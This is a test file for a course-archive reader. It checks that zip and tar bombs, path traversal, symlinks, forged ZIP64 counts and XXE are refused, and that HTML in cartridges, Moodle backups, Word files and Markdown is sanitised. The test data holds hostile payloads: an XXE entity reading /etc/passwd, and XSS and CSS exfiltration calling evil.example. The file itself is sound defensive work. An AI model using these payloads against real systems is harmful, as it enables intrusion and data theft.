import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, test } from 'vitest';
import type { Course } from './course.ts';
import { readCourse } from './read-course.ts';
import { withSearchIndex } from './search-index.ts';
import { makeEpub, makeFolder, makeTar, makeZip, type TestFolder, TINY, textOf, type ZipPart } from './test-input.ts';

let folder: TestFolder | undefined;
let course: Course | undefined;
afterEach(async () => {
  await course?.close();
  course = undefined;
  await folder?.remove();
});

async function read(name: string, bytes: Uint8Array): Promise<Course> {
  folder = await makeFolder({ [name]: bytes });
  course = await withSearchIndex(await readCourse(join(folder.path, name), {}));
  return course;
}

const ZEROS = new Uint8Array(8 * 1024 * 1024);
const BOMB: ZipPart = { name: 'zeros.html', content: ZEROS, deflate: true };
const CARTRIDGE: ZipPart = {
  name: 'imsmanifest.xml',
  content:
    '<manifest><organizations/><resources><resource identifier="a" type="webcontent" href="a.html"><file href="a.html"/></resource></resources></manifest>',
};
const word = (...parts: readonly ZipPart[]): Uint8Array =>
  makeZip([
    {
      name: '[Content_Types].xml',
      content: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    },
    ...parts,
  ]);
const DEEP = `${'<item>'.repeat(50_000)}${'</item>'.repeat(50_000)}`;

describe('refused as a whole', () => {
  test.each<[string, string, string, Uint8Array]>([
    ['a bomb in a cartridge', 'ZIP_BOMB', 'x.imscc', makeZip([CARTRIDGE, BOMB])],
    ['a bomb in a Moodle backup', 'ZIP_BOMB', 'x.mbz', makeZip([{ name: 'moodle_backup.xml', content: '<a/>' }, BOMB])],
    ['a bomb in a Word file', 'ZIP_BOMB', 'x.docx', word({ ...BOMB, name: 'word/document.xml' })],
    ['a bomb in a folder that came as a ZIP', 'ZIP_BOMB', 'x.zip', makeZip([BOMB])],
    [
      'a path out of a cartridge',
      'ZIP_UNSAFE_NAME',
      'x.imscc',
      makeZip([CARTRIDGE, { name: '../a.html', content: 'x' }]),
    ],
    [
      'a link in a cartridge',
      'ZIP_SYMLINK',
      'x.imscc',
      makeZip([CARTRIDGE, { name: 'a.html', content: '/etc/passwd', mode: 0o120777 }]),
    ],
    [
      'two spellings of one name in a Word file',
      'ZIP_DUPLICATE',
      'x.docx',
      word({ name: 'word/é', content: 'x' }, { name: 'word/e\u0301', content: 'x' }),
    ],
    [
      'a document type in a Word file',
      'XML_ENTITIES',
      'x.docx',
      word({
        name: 'word/document.xml',
        content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document>&b;</w:document>',
      }),
    ],
    ['a Word file without a document', 'WORD_MALFORMED', 'x.docx', word({ name: 'a.xml', content: '<a/>' })],
    [
      'a manifest nested 50,000 deep',
      'XML_MALFORMED',
      'x.imscc',
      makeZip([{ name: 'imsmanifest.xml', content: `<manifest><resources/>${DEEP}</manifest>` }]),
    ],
    [
      'a collection nested 50,000 deep',
      'XML_MALFORMED',
      'x.zip',
      makeZip([{ name: 'collection.xml', content: `<collection><content>${DEEP}</content></collection>` }]),
    ],
    [
      'a backup nested 50,000 deep',
      'XML_MALFORMED',
      'x.mbz',
      makeZip([{ name: 'moodle_backup.xml', content: `<moodle_backup>${DEEP}</moodle_backup>` }]),
    ],
  ])('%s', async (_name, code, name, bytes) => {
    await expect(read(name, bytes)).rejects.toMatchObject({ name: 'ReaderError', code });
  });

  test('a cartridge that claims ten million entries, before it is read', async () => {
    const zip = Buffer.from(makeZip([CARTRIDGE]));
    // ZIP64 end record and locator in front of the end record, with the lie in them.
    const end = zip.subarray(-22);
    const directory = zip.readUInt32LE(zip.length - 22 + 16);
    const size = zip.readUInt32LE(zip.length - 22 + 12);
    const record = Buffer.alloc(56);
    record.writeUInt32LE(0x06064b50, 0);
    record.writeBigUInt64LE(44n, 4);
    record.writeBigUInt64LE(10_000_000n, 24);
    record.writeBigUInt64LE(10_000_000n, 32);
    record.writeBigUInt64LE(BigInt(size), 40);
    record.writeBigUInt64LE(BigInt(directory), 48);
    const locator = Buffer.alloc(20);
    locator.writeUInt32LE(0x07064b50, 0);
    locator.writeBigUInt64LE(BigInt(zip.length - 22), 8);
    locator.writeUInt32LE(1, 16);
    end.writeUInt16LE(0xffff, 8);
    end.writeUInt16LE(0xffff, 10);
    end.writeUInt32LE(0xffffffff, 12);
    end.writeUInt32LE(0xffffffff, 16);
    const bytes = Buffer.concat([zip.subarray(0, -22), record, locator, end]);
    await expect(read('x.imscc', bytes)).rejects.toMatchObject({ code: 'ZIP_TOO_MANY' });
  });

  test('a tar of more files than a module may hold', async () => {
    const header = makeTar([{ name: '0000000', content: '' }]).subarray(0, 512);
    const many = Buffer.alloc(512 * 100_002);
    for (let index = 0; index < 100_001; index++) {
      const at = index * 512;
      many.set(header, at);
      many.write(String(index).padStart(7, '0'), at);
      // The checksum moves with the digits of the name.
      many.write('        ', at + 148);
      let sum = 0;
      for (let byte = 0; byte < 512; byte++) sum += many[at + byte] ?? 0;
      many.write(`${sum.toString(8).padStart(6, '0')}\0 `, at + 148);
    }
    await expect(read('x.mbz', gzipSync(many))).rejects.toMatchObject({ code: 'TAR_BOMB' });
  });
});

const EVIL = [
  '<script>fetch("https://evil.example")</script>',
  '<img src="https://evil.example/a.png" onerror="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<link rel="preconnect" href="https://evil.example">',
  '<style>@import url(https://evil.example/a.css); input[value^="a"]{background:url(https://evil.example/?a)}</style>',
  '<p style="background:url(//evil.example/b)">p</p>',
  '<svg><script>1</script><a xlink:href="javascript:1"><text>t</text></a><image href="https://evil.example/i"/></svg>',
  '<form action="https://evil.example"><input name="a"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
].join('');
const escaped = (html: string): string => html.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

describe('made harmless', () => {
  test.each<[string, string, Uint8Array]>([
    ['a page of a cartridge', 'x.imscc', makeZip([CARTRIDGE, { name: 'a.html', content: EVIL }])],
    [
      'a discussion of a cartridge',
      'x.imscc',
      makeZip([
        {
          name: 'imsmanifest.xml',
          content:
            '<manifest><organizations/><resources><resource identifier="a" type="imsdt_xmlv1p1"><file href="a.xml"/></resource></resources></manifest>',
        },
        {
          name: 'a.xml',
          content: `<topic><title>T</title><text texttype="text/html">${escaped(EVIL)}</text></topic>`,
        },
      ]),
    ],
    [
      'an assignment of a cartridge',
      'x.imscc',
      makeZip([
        {
          name: 'imsmanifest.xml',
          content:
            '<manifest><organizations/><resources><resource identifier="a" type="assignment_xmlv1p0"><file href="a.xml"/></resource></resources></manifest>',
        },
        {
          name: 'a.xml',
          content: `<assignment><title>T</title><text texttype="text/html">${escaped(EVIL)}</text></assignment>`,
        },
      ]),
    ],
    [
      'a page of a Moodle backup',
      'x.mbz',
      makeTar([
        {
          name: 'moodle_backup.xml',
          content:
            '<moodle_backup><information><contents><activities><activity><moduleid>1</moduleid><modulename>page</modulename><title>P</title><directory>activities/page_1</directory></activity></activities></contents></information></moodle_backup>',
        },
        {
          name: 'activities/page_1/page.xml',
          content: `<activity id="1" moduleid="1" contextid="9"><page id="1"><name>P</name><content>${escaped(EVIL)}</content><contentformat>1</contentformat></page></activity>`,
        },
      ]),
    ],
    [
      'Markdown with HTML in it',
      'x.md',
      Buffer.from(`# A\n\n${EVIL}\n\n[y](javascript:alert(1)) ![z](https://evil.example/z.png)`),
    ],
    [
      'a Word file that links to a script',
      'x.docx',
      word(
        {
          name: 'word/document.xml',
          content:
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:hyperlink r:id="r1"><w:r><w:t>klik</w:t></w:r></w:hyperlink></w:p></w:body></w:document>',
        },
        {
          name: 'word/_rels/document.xml.rels',
          content:
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)//evil.example" TargetMode="External"/></Relationships>',
        },
      ),
    ],
  ])('%s', async (_name, name, bytes) => {
    const got = await read(name, bytes);
    const files = [...got.readingOrder, ...got.resources].filter(({ type }) => /html|css|assignment/.test(type));
    for (const file of files) {
      const text = await textOf(got, file.href);
      expect(text).not.toMatch(/<(script|iframe|form|input|base|meta http-equiv|object|embed)\b/i);
      expect(text).not.toMatch(/\son\w+=|javascript:|@import|preconnect/i);
      expect(text).not.toMatch(/(src|href|url\()\s*=?\s*["'(]?\s*(https?:)?\/\/evil/i);
    }
    expect(got.report.length).toBeGreaterThan(0);
  });

  test('pictures and fonts that lie about their type stay out of a cartridge, and no page points to them', async () => {
    const got = await read(
      'x.imscc',
      makeZip([
        CARTRIDGE,
        {
          name: 'a.html',
          content: '<img src="fake.png" alt="fake"><img src="real.png" alt="real"><link rel="stylesheet" href="s.css">',
        },
        { name: 'fake.png', content: '<html><script>1</script>' },
        { name: 'real.png', content: TINY.png },
        { name: 's.css', content: '@font-face{font-family:x;src:url(f.woff2)} p{color:red}' },
        { name: 'f.woff2', content: 'MZ' },
      ]),
    );
    const hrefs = got.resources.map((file) => file.href);
    expect(hrefs).toContain('real.png');
    expect(hrefs).not.toContain('fake.png');
    expect(hrefs).not.toContain('f.woff2');
    expect(await textOf(got, 'a.html')).not.toContain('fake.png');
    expect(await textOf(got, 's.css')).not.toContain('f.woff2');
  });
});

test('a file that is two things at once comes along only as what it is named', async () => {
  const script = '<script>fetch("https://evil.example")</script>';
  const got = await read(
    'x.zip',
    makeZip([
      { name: 'a.html', content: '<h1>A</h1><img src="two.gif" alt="two">' },
      { name: 'two.gif', content: `GIF89a\u0001\0\u0001\0${script}` },
      { name: 'two.html', content: `%PDF-1.4 GIF89a <p>Text</p>${script}` },
    ]),
  );
  const files = new Map([...got.readingOrder, ...got.resources].map((file) => [file.href, file]));
  expect(files.get('two.gif')).toMatchObject({ type: 'image/gif', kind: 'resource' });
  expect(files.get('two.html')).toMatchObject({ type: 'text/html', kind: 'page' });
  expect(await textOf(got, 'two.html')).not.toContain('<script');
});

test('a small picture that claims 900 million points stays out of a page, a folder and a book', async () => {
  const huge = Buffer.from(TINY.png);
  huge.writeUInt32BE(30_000, 16);
  huge.writeUInt32BE(30_000, 20);
  const page = `<h1>A</h1><img src="a.png" alt="a"><img src="data:image/png;base64,${huge.toString('base64')}" alt="b">`;
  const got = await read(
    'x.zip',
    makeZip([
      { name: 'a.html', content: page },
      { name: 'a.png', content: huge },
    ]),
  );
  expect(got.resources.filter(({ type }) => type === 'image/png')).toEqual([]);
  expect(await textOf(got, 'a.html')).not.toContain('<img');
  expect(got.report.map(({ code }) => code)).toContain('PICTURE_TOO_LARGE');
  await got.close();
  await folder?.remove();
  const book = await read(
    'x.epub',
    makeEpub({ extra: { 'OPS/a.png': huge }, manifest: '<item id="a" href="a.png" media-type="image/png"/>' }),
  );
  expect(book.report.map(({ code, file }) => [code, file])).toEqual([['PICTURE_TOO_LARGE', 'OPS/a.png']]);
});

test('nothing of a tar backup stays in the temporary folder once the course is closed', async () => {
  const spools = (): string => execFileSync('ls', [join(process.env['TMPDIR'] ?? '/tmp')]).toString();
  const before = spools().match(/leeslicht-tar-/g)?.length ?? 0;
  await read('x.tar', makeTar([{ name: 'a.md', content: '# A' }]));
  await course?.close();
  course = undefined;
  expect(spools().match(/leeslicht-tar-/g)?.length ?? 0).toBe(before);
});
